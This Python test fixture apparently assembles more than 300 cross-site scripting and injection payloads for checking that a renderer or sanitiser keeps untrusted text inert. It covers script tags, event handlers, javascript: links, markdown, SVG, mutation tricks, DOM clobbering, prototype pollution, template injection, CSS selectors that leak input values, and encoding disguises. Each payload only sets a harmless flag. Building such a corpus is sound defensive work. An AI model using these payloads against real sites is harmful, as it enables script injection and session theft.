"""Texts that would run, or break out, if anything ever read them as more than text.

Each sets `window.__hit` if it runs; those with an id or a name clobber it, if they become elements at all.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from itertools import chain, product
from typing import Final
from urllib.parse import quote

__all__ = ["PAYLOADS", "RUN"]

RUN: Final = "__hit=1"
SCRIPT: Final = f"<script>{RUN}</script>"
IMG: Final = f"<img src=x onerror={RUN}>"
BASE64: Final = base64.b64encode(SCRIPT.encode()).decode()
JS: Final = f"javascript:{RUN}"


def _scripts() -> Iterator[str]:
    yield from (
        SCRIPT,
        SCRIPT.upper().replace("__HIT", "__hit"),
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"<script\t>{RUN}</script\n>",
        f"<script/x>{RUN}</script/x>",
        f"<script src=//x.test/a.js></script>{SCRIPT}",
        f"<script src=data:text/javascript,{RUN}></script>",
        f"<script type=module>{RUN}</script>",
        f'<script type="text/javascript" defer>{RUN}</script>',
        f"<script nonce=x>{RUN}</script>",
        f"<script>/*{RUN}*/{RUN}//</script>",
        f"<script><!--\n{RUN}\n--></script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script >{RUN}",
        f"</script>{SCRIPT}",
        f"<<script>{RUN}//<</script>",
        f"<script\x0c>{RUN}</script>",
        f"<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
        f"<script for=window event=onload>{RUN}</script>",
        f"<script>import('data:text/javascript,{RUN}')</script>",
    )


def _handlers() -> Iterator[str]:
    for tag, event in (
        ("img src=x", "onerror"),
        ("img src=/", "onload"),
        ("image src=x", "onerror"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source src=x", "onerror"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("body", "onhashchange"),
        ("input autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("button popovertarget=x", "onclick"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("iframe", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("svg", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x dur=1s", "onend"),
        ("div tabindex=1 autofocus", "onfocusin"),
        ("div style=animation:x", "onanimationstart"),
        ("div style=transition:x", "ontransitionend"),
        ("p contenteditable", "oninput"),
        ("a href=#", "onmouseover"),
        ("b", "onpointerenter"),
        ("i", "onpointerrawupdate"),
        ("form", "onsubmit"),
        ("form><input", "oninvalid"),
        ("dialog open", "onclose"),
        ("div popover id=x", "onbeforetoggle"),
        ("table background=x", "onwheel"),
        ("meter", "oncontextmenu"),
        ("area shape=default", "onclick"),
        ("track src=x", "oncuechange"),
        ("canvas", "oncontextlost"),
        ("slot", "onslotchange"),
    ):
        yield f"<{tag} {event}={RUN}>"
    for event in ("click", "copy", "dragstart", "keydown", "paste", "scroll", "scrollend", "select"):
        yield f"<p on{event}='{RUN}'>{event}</p>"
    for between, mark in product(("/", "\t", "\n", "\x0c", "//", " / "), ("", '"', "'")):
        yield f"<img{between}src=x{between}onerror={mark}{RUN}{mark}>"
    yield from (
        f"<IMG SRC=x ONERROR={RUN}>",
        f"<img src=x oNeRrOr = {RUN}>",
        f"<img src=x a='>' onerror={RUN}>",
        f"<img src=x:{RUN} onerror=eval(src)>",
        f"<img src=x onerror=`{RUN}`>",
        "<img src=x onerror=window['__hi'+'t']=1>",
        "<img src=x onerror=&#95;&#95;hit&#61;1>",
        "<img src=x onerror=\\u005f\\u005fhit=1>",
        '<img src=x onerror="[].map.constructor`__hit=1```">',
        f"<img src=x onerror=setTimeout('{RUN}')>",
        f"<img srcset=x onerror={RUN}",
        f"<x-card onclick={RUN} tabindex=0>",
    )


def _links() -> Iterator[str]:
    addresses = (
        JS,
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f" javascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A;avascript&#58;{RUN}",
        f"%6Aavascript:{RUN}",
        f"javascript://example.org/%0a{RUN}",
        f"javascript:https://example.org/%0d{RUN}",
        f"vbscript:{RUN}",
        f"livescript:{RUN}",
        f"data:text/html,{SCRIPT}",
        f"data:text/html;base64,{BASE64}",
        f"data:image/svg+xml;base64,{BASE64}",
        f"data:,{RUN}",
        f"blob:https://example.org/{RUN}",
        f"filesystem:https://example.org/{RUN}",
        f"view-source:{JS}",
        f"feed:{JS}",
        f"jar:{JS}!/",
        f"intent:{RUN}",
        f"about:blank#{RUN}",
        f"file:///etc/passwd#{RUN}",
        f"mailto:x@example.org?body={SCRIPT}",
        f"//x.test/{RUN}",
        f"https:{JS}",
        f"https://{JS}@x.test/",
        f'https://x.test/" onclick="{RUN}',
        f"https://x.test/' onclick='{RUN}",
        f"https://x.test/><img src=x onerror={RUN}>",
        f"https://x.test/`onclick={RUN}`",
        f"http://[{JS}]/",
        f"http://x.test/?a={quote(SCRIPT)}",
        f"http://x.test#{JS}",
        f"https://ј\u0430vascript:{RUN}/",
        f"\uff4aavascript:{RUN}",
    )
    for address in addresses:
        yield address
        yield f"[open]({address})"
    for address in addresses[:10]:
        yield f"<{address}>"
        yield f"<a href='{address}'>open</a>"
    yield from (
        f"[{IMG}](https://x.test/)",
        f'[x](https://x.test/ "{IMG}")',
        f"![{IMG}]({JS})",
        f'![x](x "onerror={RUN}")',
        f"[x][1]\n\n[1]: {JS}",
        f"[x]({JS}) **[y]({JS})**",
        f"[[x]({JS})](https://x.test/)",
        f"[x](<{JS}>)",
        f"[x](https://x.test/)[y]({JS})",
        f"**<b onclick={RUN}>**",
        f"`</code>{SCRIPT}`",
        f"```\n</pre>{SCRIPT}\n```",
        f"> <blockquote onclick={RUN}>",
        f"- <li onclick={RUN}>\n- {SCRIPT}",
        f"1. {IMG}\n2. [x]({JS})",
        f"*{SCRIPT}*",
        f"# {IMG}",
        f"@[{IMG}]",
        f"https://x.test/**{IMG}**",
        f"| {IMG} | {SCRIPT} |\n|---|---|",
    )


def _foreign() -> Iterator[str]:
    yield from (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:,{RUN} /></svg>",
        "<svg><script>&#95;&#95;hit=1</script></svg>",
        f"<svg><a xlink:href='{JS}'><text y=9>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values='{JS}' /><text y=9>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><style>*{{}}</style><image href=x onerror={RUN} /></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><desc>{IMG}</desc></svg>",
        f"<svg:svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<svg><handler type=text/javascript>{RUN}</handler></svg>",
        f"<svg><discard onbegin={RUN}></svg>",
        f"<svg><feImage href=x onerror={RUN} /></svg>",
        f"<math href='{JS}'>x</math>",
        f"<math><maction actiontype=statusline xlink:href='{JS}'>x</maction></math>",
        f"<math><mi xlink:href='{JS}'>x</mi></math>",
        f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
        f"<math><mtext><table><mglyph><style>{IMG}</style></mglyph></table></mtext></math>",
        f"<?xml version='1.0'?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>{RUN}</html:script>",
        f"<?xml-stylesheet href='{JS}'?>",
        f"<!DOCTYPE x [<!ENTITY e '{RUN}'>]><x>&e;</x>",
        f"<![CDATA[{SCRIPT}]]>",
        f"<xml onreadystatechange={RUN}>",
    )


def _mutations() -> Iterator[str]:
    yield from (
        f"<noscript><p title='</noscript>{IMG}'>",
        f"<style><a title='</style>{IMG}'>",
        f"<title><a title='</title>{IMG}'>",
        f"<textarea><a title='</textarea>{IMG}'>",
        f"<xmp><a title='</xmp>{IMG}'>",
        f"<noembed><a title='</noembed>{IMG}'>",
        f"<noframes><a title='</noframes>{IMG}'>",
        f"<iframe><a title='</iframe>{IMG}'>",
        f"<plaintext>{IMG}",
        f"<template>{IMG}</template>",
        f"<template shadowrootmode=open>{IMG}</template>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f'<p title="`{IMG}`">',
        f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
        f"<svg></p><style><a title='</style>{IMG}'>",
        f"<math></br><style><!--</style>{IMG}-->",
        f"<table><td><form><table>{IMG}<form>",
        f"<select><option><style></option></select>{IMG}</style>",
        f"<a><b><a>{IMG}</b></a>",
        f"<p><table><p>{SCRIPT}</table>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!--!>{IMG}-->",
        f"<!--{IMG}--!>{IMG}",
        f"<!-- --><!---><img src=x onerror={RUN}>",
        f"--><!--{IMG}",
        f"]]>{IMG}",
        f"'\"></title></textarea></style></script>{IMG}",
        f'" autofocus onfocus={RUN} x="',
        f"' autofocus onfocus={RUN} x='",
        f"` autofocus onfocus={RUN} x=`",
        f"x onmouseover={RUN} ",
        f'"/><svg onload={RUN}>',
        f'\\"><img src=x onerror={RUN}>',
        f"';{RUN}//",
        f'";{RUN}//',
        f"\\';{RUN}//",
        f"</pre></code></div></main></body>{IMG}",
        f"<div><div><span></div>{IMG}</span>",
        f"<button form=x formaction='{JS}'>x",
        f"<form id=x></form><button form=x formaction='{JS}'>x",
        f"<isindex action='{JS}' type=image>",
        f"<keygen autofocus onfocus={RUN}>",
        f"<frameset onload={RUN}>",
        f"<object data='{JS}'></object>",
        f"<object><param name=src value='{JS}'></object>",
        f"<embed src='data:text/html;base64,{BASE64}'>",
        f"<iframe srcdoc='{escape(SCRIPT)}'></iframe>",
        f"<iframe src='{JS}'></iframe>",
        f'<iframe srcdoc="{escape(IMG)}" sandbox=allow-scripts></iframe>',
        f"<base href='{JS}//'>",
        f"<meta http-equiv=refresh content='0;url={JS}'>",
        f"<meta http-equiv=refresh content='0;url=data:text/html;base64,{BASE64}'>",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">{SCRIPT}",
        f"<link rel=import href='data:text/html,{SCRIPT}'>",
        f"<link rel=preload as=script href='data:,{RUN}'>",
        f"<portal src='{JS}'>",
        f"<fencedframe src='{JS}'>",
        f"<applet code='{JS}'>",
        f"<bgsound src='{JS}'>",
        f"<layer src='{JS}'>",
        f"<table background='{JS}'>",
        f"<input type=image src='{JS}' onerror={RUN}>",
        f"<dialog open><form method=dialog><button formaction='{JS}'>",
    )


def _clobbers() -> Iterator[str]:
    yield from (
        "<a id=__hit>",
        "<a id=__hit><a id=__hit name=x>",
        "<form name=__hit>",
        "<img name=__hit>",
        "<iframe name=__hit>",
        "<form id=document><input name=cookie>",
        "<form id=main><input name=innerHTML>",
        "<input id=customElements>",
        "<a id=location href=javascript:__hit=1>",
        "<ts-editor id=__hit></ts-editor>",
        f"<ts-thread onclick={RUN}></ts-thread>",
        "<link id=__hit rel=stylesheet href='data:text/css,*{display:none}'>",
    )
    yield from (
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "__defineGetter__",
        "then",
        "innerHTML",
        "length",
    )
    yield from (
        '{"__proto__":{"__hit":1}}',
        '{"constructor":{"prototype":{"__hit":1}}}',
        "__proto__[__hit]=1",
        "constructor.prototype.__hit=1",
        "[object Object]",
        "undefined",
        "NaN",
    )


def _templates() -> Iterator[str]:
    for left, right in (
        ("${", "}"),
        ("#{", "}"),
        ("@{", "}"),
        ("{", "}"),
        ("{{", "}}"),
        ("{{{", "}}}"),
        ("{%", "%}"),
        ("<%=", "%>"),
        ("<%", "%>"),
        ("<?=", "?>"),
        ("<?php ", "?>"),
        ("[[", "]]"),
        ("`${", "}`"),
        ("((", "))"),
        ("{!", "!}"),
        ("$((", "))"),
    ):
        yield f"{left}{RUN}{right}"
    yield from (
        "{{constructor.constructor('__hit=1')()}}",
        "${constructor.constructor('__hit=1')()}",
        "{{$on.constructor('__hit=1')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };__hit=1//');}}",
        f"<p @click=${{()=>{{{RUN}}}}} .innerHTML=${{x}} ?hidden=${{y}}>",
        f"<p .innerHTML='{IMG}'>",
        f"<!--?lit$123456789$-->{IMG}",
        "<?lit$123456789$?>",
        "lit$123456789$",
        f"<div ng-app ng-csp>{{{{{RUN}}}}}</div>",
        f"<div v-html=\"'{IMG}'\">",
        f"<p x-init='{RUN}' x-data>",
        f"<p hx-on:load='{RUN}'>",
        f"<p data-bind='html: x={RUN}'>",
        '{"_$litType$":1,"strings":["<img src=x onerror=__hit=1>"],"values":[]}',
        '{"$$typeof":"Symbol(x)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}',
        "{name} {count} {text}",
        "{name, select, other {<img src=x onerror=__hit=1>}}",
        "%s %d %n %(name)s {0} {0.__class__}",
        "$& $1 $` $'",
    )


def _styles() -> Iterator[str]:
    yield from (
        "<style>*{display:none!important}</style>",
        "<style>@import 'https://x.test/x.css';</style>",
        "<style>input[value^=a]{background:url(https://x.test/a)}</style>",
        f"<style>*{{background:url('{JS}')}}</style>",
        f'<p style="background:url({JS})">x',
        f'<p style="width:expression({RUN})">x',
        f'<p style="-moz-binding:url({JS})">x',
        f'<p style="behavior:url({JS})">x',
        "<p style='position:fixed;inset:0;z-index:9999999;background:#fff'>x",
        f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={RUN}>",
        f"red;background:url({JS})",
        f"url({JS})",
        "}*{display:none}/*",
        "<link rel=stylesheet href=//x.test/x.css>",
        "<style>:host{display:none}</style>",
        "<style>@font-face{font-family:x;src:url(//x.test/x)}</style>",
    )


def _disguises() -> Iterator[str]:
    yield from (
        escape(SCRIPT),
        escape(escape(SCRIPT)),
        escape(IMG),
        quote(SCRIPT),
        quote(quote(SCRIPT)),
        "".join(f"&#{ord(sign)};" for sign in IMG),
        "".join(f"&#x{ord(sign):x};" for sign in IMG[:24]),
        "".join(f"&#{ord(sign):07}" for sign in "<svg onload"),
        "".join(f"\\u{ord(sign):04x}" for sign in IMG[:30]),
        "".join(f"\\x{ord(sign):02x}" for sign in IMG),
        "".join(f"\\{ord(sign):o}" for sign in SCRIPT),
        "\uff1cscript\uff1e__hit=1\uff1c/script\uff1e",
        "\u2039script\u203a__hit=1\u2039/script\u203a",
        "\ufe64img src=x onerror=__hit=1\ufe65",
        "\u02c2script\u02c3__hit=1",
        "\u226e\u226fscript>__hit=1",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\xbcscript\xbe{RUN}\xbc/script\xbe",
        f"\u0130\u0131<\u017fcript>{RUN}</\u017fcript>",
        f"<\u212amg src=x onerror={RUN}>",
        f"\u3cbc\u3e3cscript>{RUN}",
        f"\ud83d\ude00<img src=x onerror={RUN}>".encode("utf-16", "surrogatepass").decode("utf-16"),
        f"\u202e{IMG}\u202c",
        f"\u2066{SCRIPT}\u2069",
        f"\u200f\u061c{IMG}",
        f"\u200b{SCRIPT}\u200b",
        f"<scr\u200bipt>{RUN}</script>",
        f"<scr\xadipt>{RUN}</script>",
        f"<\u2060script>{RUN}</script>",
        f"\ufeff{SCRIPT}",
        f"<i\u0301mg src=x onerror={RUN}>",
        f"<img\u3000src=x\u3000onerror={RUN}>",
        f"<img\xa0src=x\xa0onerror={RUN}>",
        f"<img\u2028src=x\u2029onerror={RUN}>",
        f"<img\x0bsrc=x onerror={RUN}>",
        f"\x00{SCRIPT}",
        f"<scr\x00ipt>{RUN}</script>",
        f"<img src=x onerror\x00={RUN}>",
        f"java\x00script:{RUN}",
        f"<\x00script>{RUN}</script>",
        f"<img src=x onerror={RUN}\x1f>",
        f"\x08<svg onload={RUN}>",
        f"\x1b[31m{IMG}\x1b[0m",
        f"\x85{SCRIPT}",
        f"\U000e0041{IMG}\U000e007f",
        f"\ufffe{IMG}",
        f"\U0001f468\u200d\U0001f469\u200d\U0001f467{IMG}",
        "Z" + "\u0300\u0301\u0302\u0303" * 30 + IMG,
    )


def _sizes() -> Iterator[str]:
    yield from (
        "<b>" * 400 + IMG,
        "<div>" * 40 + IMG + "</div>" * 40,
        "<svg>" * 30 + f"<svg onload={RUN}>",
        "<" * 150 + f"img src=x onerror={RUN}>",
        ">" * 300 + IMG,
        "> " * 300 + IMG,
        "*" * 301 + IMG,
        "[" * 600 + f"x]({JS})",
        "[x](" * 200 + JS,
        "`" * 99 + SCRIPT,
        "- " * 400 + SCRIPT,
        "(" * 190 + IMG,
        "<!--" * 200 + IMG,
        "&lt;" * 300 + f"img src=x onerror={RUN}>",
        "&" * 199,
        "https://x.test/" + "a" * 3000 + IMG,
        "x" * 3_900 + IMG,
        f"<img src=x {'a=1 ' * 200}onerror={RUN}>",
        f"<{'a' * 150} onclick={RUN}>",
        "\n" * 60 + IMG + "\n" * 60 + SCRIPT,
        "**_**_" * 100 + IMG,
        f"[{'a' * 290}](https://x.test/{RUN})",
        "{{" * 90 + RUN,
        "${" * 90 + RUN,
    )


PAYLOADS: Final = tuple(
    dict.fromkeys(
        chain(
            _scripts(),
            _handlers(),
            _links(),
            _foreign(),
            _mutations(),
            _clobbers(),
            _templates(),
            _styles(),
            _disguises(),
            _sizes(),
        )
    )
)
"""More than 300, each once."""
